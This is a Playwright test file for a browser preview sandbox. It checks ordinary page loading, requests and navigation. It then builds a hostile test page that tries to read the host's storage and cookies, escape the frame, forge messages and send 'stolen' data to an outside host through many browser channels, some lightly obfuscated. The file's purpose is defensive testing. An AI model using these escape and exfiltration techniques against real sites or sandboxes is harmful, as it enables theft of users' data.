/** What a page in the preview can do, and what a hostile one cannot. The services are played; the frame is the real one. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator, Page } from '@playwright/test';
import { fakeRequests, type FakeServices, openFakePreview } from './support/fake-lab.ts';
import { siteOrigin } from './support/origin.ts';
import { expect, test } from './support/test.ts';

const home = 'http://localhost:8080/';

async function opened(opener: Page, services: FakeServices, address = home): Promise<{ popup: Page; frame: FrameLocator }> {
  await opener.route('**/vm/manifest.json', () => {});
  await opener.goto('/en/');
  const popup = await openFakePreview(opener, address, services, 'en');
  return { popup, frame: popup.frameLocator('[data-testid="preview-frame"]') };
}

/** What a page writes into `#out`, one line each. */
const out = (frame: FrameLocator) => frame.locator('#out');

const pixel = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><rect width="7" height="5" fill="red"/></svg>';

test('loads what a page is made of, in order', async ({ page }) => {
  const { frame } = await opened(page, {
    '/shop/': { body: `<!doctype html><html><head><title>Shop</title><link rel=stylesheet href=style.css><script src="first.js"></script><script>seen.push('inline ' + location.pathname)</script>
      <script type=module src=/main.js></script><script defer src=last.js></script><link rel=preconnect href=https://cdn.example></head>
      <body><img id=pic src=../pic.svg alt=pic><img id=set srcset="/pic.svg 1x, /big.svg 2x" alt=set><div id=late></div><p id=out></p></body></html>` },
    '/shop/style.css': { type: 'text/css', body: '@import "more.css"; #late { background: url(/pic.svg) }' },
    '/shop/more.css': { type: 'text/css', body: '#out { color: rgb(1, 2, 3) }' },
    '/shop/first.js': { type: 'text/javascript', body: `window.seen = ['first ' + document.currentScript.src + ' ' + document.URL]` },
    '/shop/last.js': { type: 'text/javascript', body: `seen.push('last ' + document.readyState)` },
    '/main.js': { type: 'text/javascript', body: `import { name } from './lib/name.js'; const late = await import('./lib/late.js'); seen.push('module ' + name + ' ' + late.default + ' ' + import.meta.url);
      document.title = 'Shop ready'; document.getElementById('out').textContent = seen.join('\\n')` },
    '/lib/name.js': { type: 'text/javascript', body: `export const name = 'deep'` },
    '/lib/late.js': { type: 'text/javascript', body: `export default 'lazy'` },
    '/pic.svg': { type: 'image/svg+xml', body: pixel },
  }, `${home}shop/`);
  await expect(out(frame)).toHaveText('first http://localhost:8080/shop/first.js http://localhost:8080/shop/\ninline /shop/\nlast interactive\nmodule deep lazy http://localhost:8080/main.js');
  await expect(out(frame)).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect.poll(() => frame.locator('#pic').evaluate((image: HTMLImageElement) => [image.naturalWidth, image.src, image.getAttribute('src')])).toEqual([7, 'http://localhost:8080/pic.svg', '../pic.svg']);
  await expect.poll(() => frame.locator('#set').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(7);
  await expect(frame.locator('#late')).toHaveCSS('background-image', /^url\("blob:/);
});

test('loads what scripts add', async ({ page }) => {
  const { frame } = await opened(page, {
    '/': { body: `<body><div id=box></div><pre id=out></pre><script>
      const say = (text) => document.getElementById('out').append(text + '\\n');
      const image = new Image(); image.onload = () => say('image ' + image.naturalWidth); image.src = '/pic.svg';
      const broken = new Image(); broken.onerror = () => say('broken'); broken.src = '/none.png';
      document.getElementById('box').innerHTML = '<img id=inner src="pic.svg" alt=x onerror="say(\\'wrong\\')" style="background: url(pic.svg)">';
      const script = document.createElement('script'); script.src = '/more.js'; script.onload = () => say('loaded'); document.head.append(script);
      const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '/more.css'; link.onload = () => say('styled ' + getComputedStyle(document.body).color); document.head.append(link);
    </script></body>` },
    '/more.js': { type: 'text/javascript', body: `say('script ' + location.host)` },
    '/more.css': { type: 'text/css', body: 'body { color: rgb(9, 8, 7) }' },
    '/pic.svg': { type: 'image/svg+xml', body: pixel },
  });
  for (const line of ['image 7', 'broken', 'script localhost:8080', 'loaded', 'styled rgb(9, 8, 7)']) await expect(out(frame)).toContainText(line);
  await expect.poll(() => frame.locator('#inner').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(7);
  await expect(frame.locator('#inner')).toHaveCSS('background-image', /^url\("blob:/);
  await expect(out(frame)).not.toContainText('wrong');
});

test('talks to its service: fetch, XMLHttpRequest, WebSocket, events, cookies, storage', async ({ page }) => {
  const { frame } = await opened(page, {
    '/': { body: `<body><pre id=out></pre><script type=module>
      const say = (text) => document.getElementById('out').append(text + '\\n');
      const answer = await fetch('/api', { method: 'PUT', body: 'payload', headers: { 'X-A': '1' } });
      say('fetch ' + answer.status + ' ' + answer.url + ' ' + answer.headers.get('x-b') + ' ' + (await answer.json()).ok);
      const request = new XMLHttpRequest(); request.responseType = 'json'; request.open('POST', 'api'); request.setRequestHeader('X-C', '2');
      request.onload = () => say('xhr ' + request.status + ' ' + request.response.ok); request.send('body');
      const socket = new WebSocket('ws://' + location.host + '/live'); socket.onmessage = ({ data }) => { say(data); if (data.startsWith('welcome')) socket.send('hi'); else socket.close(1000) };
      socket.onclose = ({ code }) => say('closed ' + code);
      const events = new EventSource('/events'); events.addEventListener('tick', ({ data, lastEventId }) => { say('event ' + data + ' ' + lastEventId); events.close() });
      document.cookie = 'mine=2; Path=/'; say('cookie ' + document.cookie);
      say('stored ' + localStorage.kept); localStorage.setItem('new', 'x');
    </script></body>` },
    'PUT /api': { type: 'application/json', body: '{"ok":1}', headers: [['X-B', 'b']] },
    'POST /api': { type: 'application/json', body: '{"ok":2}' },
    '/events': { type: 'text/event-stream', body: ': hello\nid: 7\nevent: tick\ndata: one\ndata: two\n\n' },
  });
  for (const line of ['fetch 200 http://localhost:8080/api b 1', 'xhr 200 2', 'welcome to ws://localhost:8080/live', 'echo hi', 'closed 1000', 'event one\ntwo 7', 'cookie theirs=1; mine=2', 'stored yes']) {
    await expect(out(frame)).toContainText(line);
  }
  const asked = await fakeRequests(page);
  expect(asked.find(({ method }) => method === 'PUT')).toMatchObject({ body: 'payload', headers: expect.arrayContaining([['x-a', '1']]) });
  expect(asked.find(({ method }) => method === 'store')?.body).toContain('"key":"new","value":"x"');
  expect(asked.find(({ method }) => method === 'cookie')?.body).toContain('mine=2; Path=/');
});

test('goes where links, forms and scripts lead, and back', async ({ page }) => {
  const body = (name: string): string => `<title>${name}</title><h1>${name}</h1>`;
  const { popup, frame } = await opened(page, {
    '/': { body: `${body('home')}<a href="next?x=1">next</a> <a href="#far">far</a> <a href="no" onclick="return false">stays</a> <form action=/find><input name=q value="a b"><button>find</button></form>
      <form method=post action=/save enctype=multipart/form-data><input name=f value=1><button name=how value=now>save</button></form>
      <button onclick="location.href='/moved'">move</button> <button onclick="history.pushState({ n: 1 }, '', '/pushed')">push</button><p id=out></p>
      <p id=far style="margin-top: 3000px">far away</p><script>onpopstate = (event) => out.textContent += 'pop ' + location.pathname + location.hash + ' ' + JSON.stringify(event.state) + '; '</script>` },
    '/next?x=1': { body: body('next') },
    '/find?q=a+b': { body: body('found') },
    '/save': { body: body('saved') },
    '/moved': { body: `${body('moved')}<meta http-equiv=refresh content="0; url=/refreshed">` },
    '/refreshed': { body: body('refreshed') },
  });
  const address = popup.getByTestId('preview-address');
  const heading = frame.getByRole('heading', { level: 1 });
  await expect(heading).toHaveText('home');
  await frame.getByText('stays').click();
  await frame.getByText('next').click();
  await expect(heading).toHaveText('next');
  await expect(address).toHaveValue('http://localhost:8080/next?x=1');
  await expect(popup).toHaveTitle(/^next/);
  await popup.getByTestId('preview-back').click();
  await expect(heading).toHaveText('home');
  await popup.getByTestId('preview-forward').click();
  await expect(heading).toHaveText('next');
  await popup.getByTestId('preview-back').click();
  await expect(heading).toHaveText('home');

  await frame.getByText('far', { exact: true }).click();
  await expect(address).toHaveValue('http://localhost:8080/#far');
  await expect(frame.locator('#far')).toBeInViewport();
  await frame.getByRole('button', { name: 'push' }).click();
  await expect(address).toHaveValue('http://localhost:8080/pushed');
  await popup.getByTestId('preview-back').click();
  await expect(out(frame)).toHaveText('pop /#far null; pop /#far null; ');
  await popup.getByTestId('preview-forward').click();
  await expect(out(frame)).toContainText('pop /pushed {"n":1}');

  await frame.getByRole('button', { name: 'find' }).click();
  await expect(heading).toHaveText('found');
  await address.fill('8080');
  await address.press('Enter');
  await expect(heading).toHaveText('home');
  await frame.getByRole('button', { name: 'save' }).click();
  await expect(heading).toHaveText('saved');
  expect((await fakeRequests(page)).find(({ method }) => method === 'POST')?.body).toMatch(/name="f"\r\n\r\n1\r\n[\s\S]*name="how"\r\n\r\nnow/);
  await popup.getByTestId('preview-back').click();
  await frame.getByRole('button', { name: 'move' }).click();
  await expect(heading).toHaveText('refreshed');
});

test('is a wall around a hostile page', async ({ page, faults, context }) => {
  // What it tries is named in the console, and Chromium counts what it kept back as asked for.
  faults.expect(/console: |left the origin: http:\/\/127\.0\.0\.1:\d+\/(stolen|leak)|csp/);
  const reached: string[] = [];
  const outside = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('reached');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => outside.once('listening', resolve));
  const port = (outside.address() as AddressInfo).port;
  const siteRequests: string[] = [];
  context.on('request', (request) => {
    if (request.url().startsWith(siteOrigin()) && request.url().includes('stolen')) siteRequests.push(request.url());
  });
  await page.goto('/en/');
  await page.evaluate(() => {
    localStorage.setItem('secret', 'treasure');
    document.cookie = 'secret=treasure';
  });
  const { popup, frame } = await opened(page, { '/': { body: hostilePage(siteOrigin(), `http://127.0.0.1:${port}`) } });
  await expect(out(frame)).toContainText('done', { timeout: 30_000 });
  const lines = ((await out(frame).textContent()) ?? '').trim().split('\n');
  for (const line of lines) expect(line, lines.join('\n')).toMatch(/^(kept out: |done$)/);
  expect(lines.length).toBeGreaterThan(20);
  expect(siteRequests.filter((url) => url.includes('reached'))).toEqual([]);
  expect(reached).toEqual([]);
  expect(await popup.evaluate(() => [localStorage.getItem('secret'), document.cookie, document.title.includes('stolen'), location.pathname])).toEqual(['treasure', 'secret=treasure', false, '/en/preview/']);

  await test.step('and it cannot leave', async () => {
    const left = popup.getByTestId('preview-error');
    for (const way of ['self', 'site', 'data', 'blob', 'form', 'top']) {
      await popup.getByTestId('preview-reload').click();
      await expect(out(frame)).toContainText('done', { timeout: 30_000 });
      await frame.locator(`#leave-${way}`).click();
      if (way === 'form' || way === 'top') await expect(frame.locator('#leave-top')).toBeVisible();
      else await expect(left).toContainText('DD5113');
    }
    expect(new URL(popup.url()).pathname).toBe('/en/preview/');
    expect(reached).toEqual([]);
  });
  await new Promise((resolve) => outside.close(resolve));
});

/** Tries everything it can think of, with the browser's own means, and writes down what it got. */
function hostilePage(site: string, outside: string): string {
  return `<body><pre id=out></pre>
  <button id=leave-self>self</button><button id=leave-site>site</button><button id=leave-data>data</button><button id=leave-blob>blob</button><button id=leave-form>form</button><button id=leave-top>top</button>
  <script type=module>
  const out = document.getElementById('out');
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  // Undoes what the preview put over the browser's own means, as far as a page can.
  const native = {};
  for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'localStorage', 'sessionStorage']) {
    delete window[name];
    native[name] = () => window[name];
  }
  delete document.cookie;
  const attempt = async (name, deed) => {
    try {
      const got = await deed();
      out.append((got === undefined || got === null || got === false || got === '' ? 'kept out: ' : 'GOT ') + name + ' ' + String(got) + '\\n');
    } catch (error) {
      out.append('kept out: ' + name + ' ' + error.name + '\\n');
    }
  };
  const where = eval('window')['loc' + 'ation'];
  await attempt('parent.document', () => parent.document);
  await attempt('top.document', () => top.document);
  await attempt('parent.localStorage', () => parent.localStorage);
  await attempt('frameElement', () => window.frameElement);
  await attempt('opener', () => window.opener ?? parent.opener?.document);
  await attempt('parent.location', () => String(parent[['loc', 'ation'].join('')].href));
  await attempt('localStorage', () => native.localStorage().getItem('secret'));
  await attempt('sessionStorage', () => native.sessionStorage().length);
  await attempt('cookie', () => /treasure/.test(document.cookie));
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = () => reject(open.error); }));
  await attempt('caches', () => caches.keys());
  await attempt('service worker', () => navigator.serviceWorker.register('${site}/stolen.js'));
  await attempt('broadcast', async () => { const channel = new BroadcastChannel('drydock'); channel.postMessage('x'); return ''; });
  await attempt('cookie store', () => cookieStore.getAll());
  await attempt('top navigation', () => { top[['loc', 'ation'].join('')].href = '${outside}/stolen'; return pause(200).then(() => ''); });
  await attempt('popup', () => window.open.call(window, '${outside}/stolen'));
  for (const [name, origin] of [['site', '${site}'], ['outside', '${outside}']]) {
    await attempt('fetch of ' + name, () => native.fetch()(origin + '/stolen-reached', { mode: 'no-cors' }));
    await attempt('xhr of ' + name, () => new Promise((resolve, reject) => { const xhr = new (native.XMLHttpRequest())(); xhr.open('GET', origin + '/stolen-reached'); xhr.onload = () => resolve(xhr.response || 'loaded'); xhr.onerror = () => reject(new TypeError()); xhr.send(); }));
    await attempt('image of ' + name, () => new Promise((resolve, reject) => { const image = document.createElementNS('http://www.w3.org/1999/xhtml', 'img'); image.onload = resolve; image.onerror = () => reject(new TypeError()); image.attributes.setNamedItem(Object.assign(document.createAttribute('src'), { value: origin + '/stolen-reached.png' })); document.body.append(image); }));
    await attempt('socket to ' + name, () => new Promise((resolve, reject) => { const socket = new (native.WebSocket())(origin.replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()); }));
    await attempt('events of ' + name, () => new Promise((resolve, reject) => { const source = new (native.EventSource())(origin + '/stolen-reached'); source.onopen = () => resolve('open'); source.onerror = () => { source.close(); reject(new TypeError()); }; }));
    await attempt('import of ' + name, () => new Function('return im' + 'port("' + origin + '/stolen-reached.js")')());
    await attempt('worker from ' + name, () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + origin + '/stolen-reached").then(() => postMessage("got"), () => postMessage(""))']))); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new TypeError()); }));
    await attempt('beacon to ' + name, () => { Navigator.prototype.sendBeacon.call(navigator, origin + '/stolen-reached'); return pause(100).then(() => ''); });
    await attempt('frame of ' + name, () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.attributes.setNamedItem(Object.assign(document.createAttribute('src'), { value: origin + '/stolen-reached' })); document.body.append(frame); setTimeout(() => resolve(''), 200); }));
    await attempt('frame in frame of ' + name, () => new Promise((resolve) => { addEventListener('message', ({ data }) => resolve(data)); const frame = document.createElement('iframe'); frame.srcdoc = '<script>fetch("' + origin + '/stolen-reached").then(() => parent.postMessage("got", "*"), () => parent.postMessage("", "*"))<\\/script>'; document.body.append(frame); setTimeout(() => resolve(''), 1000); }));
    await attempt('hints for ' + name, () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon']) { const link = document.createElement('link'); link.attributes.setNamedItem(Object.assign(document.createAttribute('href'), { value: origin + '/stolen-reached' })); link.rel = rel; link.as = 'image'; document.head.append(link); } return pause(200).then(() => ''); });
  }
  // Says to the page around what only the preview's own script may say.
  await attempt('forged message', () => { parent.postMessage({ type: 'drydock-preview-window' }, '${site}', [new MessageChannel().port1]); parent.postMessage({ type: 'navigate', url: '${outside}/stolen' }, '*'); return pause(100).then(() => ''); });
  const leave = {
    self: () => where.assign('${outside}/leak'), site: () => where.assign('${site}/stolen-reached'),
    data: () => where.assign('data:text/html,<script>fetch("${outside}/leak")<' + '/script>'), blob: () => where.assign(URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }))),
    form: () => { const form = document.createElement('form'); form.action = '${outside}/leak'; document.body.append(form); delete HTMLFormElement.prototype.submit; HTMLFormElement.prototype.requestSubmit.call(form); },
    top: () => { try { top[['loc', 'ation'].join('')].href = '${outside}/leak'; } catch { /* kept */ } },
  };
  for (const [name, deed] of Object.entries(leave)) document.getElementById('leave-' + name).onclick = deed;
  out.append('done\\n');
  </script></body>`;
}
